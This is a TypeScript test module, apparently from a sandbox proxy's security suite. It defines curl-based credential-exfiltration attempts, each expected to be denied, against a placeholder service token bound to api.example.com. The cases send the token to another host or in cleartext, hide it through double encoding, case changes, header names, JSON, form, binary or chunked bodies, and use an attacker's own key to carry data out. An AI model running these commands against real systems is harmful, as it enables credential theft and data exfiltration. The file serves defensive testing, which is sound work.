/**
 * Attacks on credentials that a program may use and never has.
 *
 * `$SERVICE_TOKEN` holds a placeholder, whose value belongs to `api.example.com`, port 443. The policy
 * lets `other.example.com` through as well, and port 80 of both.
 *
 * @module
 */

import type { Attack } from "../support/attack.ts";

export const BOUND = "api.example.com";
export const OTHER = "other.example.com";

interface Sent {
  /** Words for `curl`, as a shell reads them. */
  readonly words?: string;
  readonly url?: string;
  /** What is piped into it. */
  readonly input?: string;
}

function curl({ words = "", url = `https://${BOUND}/`, input = "true" }: Sent): string {
  return `${input} | curl -sS -m 15 -w '\\nstatus %{http_code} connect %{http_connect}\\n' ` +
    `${words} "${url}"`;
}

/** The canary goes with the head, so that a request that gets through is seen. */
const SEEN = '-H "x-canary: $CANARY"';

const TWIN = {
  script: curl({ words: '-H "authorization: Bearer $SERVICE_TOKEN"' }),
  shows: /status 200/,
};

interface Case extends Sent {
  readonly id: string;
  readonly title: string;
  readonly reason: string;
  readonly host?: string;
  readonly port?: number;
  /** By default that of the reason. */
  readonly finding?: string | null;
  /** The head went through and the body did not. */
  readonly isBody?: boolean;
}

function attackOf(
  { id, title, reason, host = BOUND, port = 443, finding, isBody = false, ...sent }: Case,
): Attack {
  // Denials that are alike are told together: each attack has a path of its own.
  const { url = `https://${BOUND}/`, words = "" } = sent;
  const asked = {
    ...sent,
    url: url.replace("com/", `com/${id}/`),
    // The head of a body goes on before it: what may not is in the body, behind the placeholder.
    words: isBody ? words : `${SEEN} ${words}`,
  };
  const uid = finding === undefined
    ? `openshell.provider_credential.${reason.replace(/^credential_/, "")}`
    : finding;
  return {
    id: `credential-${id}`,
    title,
    area: "credentials",
    attack: { script: curl(asked), shows: new RegExp(`${reason}[^]*status 403`) },
    twin: TWIN,
    event: { kind: "request", host, port, verdict: "denied", reason },
    ...uid !== null && { finding: uid },
    ...isBody && { isAskedTwice: true },
  };
}

const MISMATCH = "credential_endpoint_mismatch";
const MISPLACED = "credential_misplaced";
const FOREIGN = "foreign_credential";
const PLACEHOLDER = "openshell:resolve:env:SERVICE_TOKEN";
const ENCODED = encodeURIComponent(PLACEHOLDER);
const DOUBLE = encodeURIComponent(ENCODED);
const HALF = Math.floor(PLACEHOLDER.length / 2);

const AT_OTHERS: readonly Case[] = [
  {
    id: "other-host",
    title: "have it resolved at another allowed host",
    words: '-H "authorization: Bearer $SERVICE_TOKEN"',
    url: `https://${OTHER}/`,
    host: OTHER,
    reason: MISMATCH,
  },
  {
    id: "other-host-basic",
    title: "the same, inside of Base64",
    words: '-u "x:$SERVICE_TOKEN"',
    url: `https://${OTHER}/`,
    host: OTHER,
    reason: MISMATCH,
  },
  {
    id: "other-host-path",
    title: "the same, in a path",
    url: `https://${OTHER}/$SERVICE_TOKEN`,
    host: OTHER,
    reason: MISMATCH,
  },
  {
    id: "other-host-query",
    title: "the same, in a query",
    url: `https://${OTHER}/?a=${ENCODED}`,
    host: OTHER,
    reason: MISMATCH,
  },
  {
    id: "other-port",
    title: "have it sent in the clear",
    words: '-H "x-api-key: $SERVICE_TOKEN"',
    url: `http://${BOUND}/`,
    port: 80,
    reason: MISMATCH,
  },
  {
    id: "other-host-in-the-clear",
    title: "have it sent in the clear to another host",
    words: '-H "x-api-key: $SERVICE_TOKEN"',
    url: `http://${OTHER}/`,
    host: OTHER,
    port: 80,
    reason: MISMATCH,
  },
  {
    id: "host-header",
    title: "name its host in a header alone",
    words: `-H "host: ${BOUND}" -H "x-api-key: $SERVICE_TOKEN"`,
    url: `https://${OTHER}/`,
    host: OTHER,
    reason: "request_authority_mismatch",
    finding: null,
  },
];

const MISPLACEMENTS: readonly Case[] = [
  {
    id: "query-name",
    title: "put it in the name of a parameter",
    url: `https://${BOUND}/?$SERVICE_TOKEN=1`,
    reason: MISPLACED,
  },
  {
    id: "header-name",
    title: "put it in the name of a header",
    words: '-H "OPENSHELL-RESOLVE-ENV-SERVICE_TOKEN: 1"',
    reason: MISPLACED,
  },
  {
    id: "case",
    title: "write it in another case",
    words: `-H "x-api-key: ${PLACEHOLDER.toUpperCase()}"`,
    reason: MISPLACED,
  },
  {
    id: "encoded-twice",
    title: "encode it twice",
    url: `https://${BOUND}/?a=${DOUBLE}`,
    reason: MISPLACED,
  },
  {
    id: "body-json",
    title: "put it in JSON",
    words: `-H "content-type: application/json" -d "{\\"a\\":\\"$SERVICE_TOKEN $CANARY\\"}"`,
    reason: MISPLACED,
    isBody: true,
  },
  {
    id: "body-form",
    title: "put it in a form",
    words: '--data-urlencode "a=$SERVICE_TOKEN $CANARY"',
    reason: MISPLACED,
    isBody: true,
  },
  {
    id: "body-binary",
    title: "put it between bytes",
    input: 'printf "\\0\\1%s\\377%s" "$SERVICE_TOKEN" "$CANARY"',
    words: "--data-binary @-",
    reason: MISPLACED,
    isBody: true,
  },
  {
    id: "body-chunked",
    title: "put it in chunks, a half in each",
    input: `(printf ${PLACEHOLDER.slice(0, HALF)}; sleep 1; printf ${
      PLACEHOLDER.slice(HALF)
    }$CANARY)`,
    words: '-T - -H "expect:"',
    reason: MISPLACED,
    isBody: true,
  },
  {
    id: "former-handle",
    title: "use a handle of another time",
    words: `-H "x-api-key: openshell:resolve:env:s${"0f".repeat(32)}_SERVICE_TOKEN"`,
    reason: "credential_unknown",
    finding: null,
  },
];

const FOREIGN_KEYS: readonly Case[] = [
  {
    id: "foreign-header",
    title: "take data out with a key of the attacker",
    words: '-H "x-api-key: $CANARY"',
    reason: FOREIGN,
  },
  {
    id: "foreign-bearer",
    title: "the same, as a bearer",
    words: '-H "authorization: Bearer $CANARY"',
    reason: FOREIGN,
  },
  {
    id: "foreign-underscore",
    title: "the same, as gateways to CGI read it",
    words: '-H "x_api_key: $CANARY"',
    reason: FOREIGN,
  },
  {
    id: "foreign-userinfo",
    title: "the same, in the URL",
    url: `https://theirs:$CANARY@${BOUND}/`,
    reason: FOREIGN,
  },
  {
    id: "foreign-query",
    title: "the same, in the query",
    url: `https://${BOUND}/?access_token=$CANARY`,
    reason: FOREIGN,
  },
  {
    id: "foreign-beside-ours",
    title: "the same, beside ours",
    words: '-H "authorization: Bearer $SERVICE_TOKEN" -H "x-api-key: $CANARY"',
    reason: FOREIGN,
  },
  {
    id: "foreign-user",
    title: "the same, as the user of our password",
    words: '-u "ghp_$CANARY:$SERVICE_TOKEN"',
    reason: FOREIGN,
  },
];

/** A host's name is looked up by somebody: it is refused before that. */
const IN_A_NAME: Attack = {
  id: "credential-in-a-host",
  title: "put it in the name of a host",
  area: "credentials",
  attack: {
    script: curl({ url: "https://sk-OPENSHELL-RESOLVE-ENV-TOKEN.example.com/" }),
    shows: /connect 403/,
  },
  twin: TWIN,
  event: {
    kind: "connection",
    host: "sk-openshell-resolve-env-token.example.com",
    port: 443,
    verdict: "denied",
    reason: MISPLACED,
  },
  finding: "openshell.provider_credential.misplaced",
};

/** A cookie of the attacker does not go on; the request does. */
const COOKIE: Attack = {
  id: "credential-foreign-cookie",
  title: "take data out with a session of the attacker",
  area: "credentials",
  attack: {
    script: `curl -sS -m 15 -w '\\nstatus %{http_code}\\n' -b "session=$CANARY" https://${BOUND}/`,
    shows: /status 200/,
  },
  twin: TWIN,
  event: { kind: "request", host: BOUND, port: 443, verdict: "allowed" },
};

export const CREDENTIAL_ATTACKS: readonly Attack[] = [
  ...[...AT_OTHERS, ...MISPLACEMENTS, ...FOREIGN_KEYS].map(attackOf),
  IN_A_NAME,
  COOKIE,
];
